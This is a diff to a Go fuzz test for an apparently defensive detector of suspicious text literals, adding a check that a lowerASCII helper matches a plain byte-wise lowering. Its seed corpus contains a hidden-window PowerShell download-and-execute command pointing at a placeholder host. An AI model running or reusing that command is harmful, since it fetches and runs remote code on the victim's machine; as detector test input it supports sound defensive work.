@@ -73,7 +73,8 @@ func TestLitTableFindsEveryLiteral(t *testing.T) {
 
 // FuzzTextLiterals: the one-pass literal search gives what one
 // strings.Contains per literal gives, nextOf what strings.IndexAny gives,
-// and textIndicators what it gave before them.
+// lowerASCII what a lowered byte copy gives, and textIndicators what it
+// gave before them.
 func FuzzTextLiterals(f *testing.F) {
 	for _, s := range []string{
 		`powershell -w 1 -nop -c "iex (new-object net.webclient).downloadstring('http://x/a')"`,
@@ -85,6 +86,15 @@ func FuzzTextLiterals(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, text string) {
 		_, low := normalize(text)
+		lowered := []byte(text) // lowerASCII as it was: lowered in a copy, copied again
+		for i, c := range lowered {
+			if c >= 'A' && c <= 'Z' {
+				lowered[i] = c + ('a' - 'A')
+			}
+		}
+		if got := lowerASCII(text); got != string(lowered) {
+			t.Fatalf("lowerASCII(%q) = %q, want %q", text, got, lowered)
+		}
 		hits := textLits.scan(low)
 		for i, w := range textLits.words {
 			if got, want := hits.any(litGroup(1)<<i), strings.Contains(low, w); got != want {
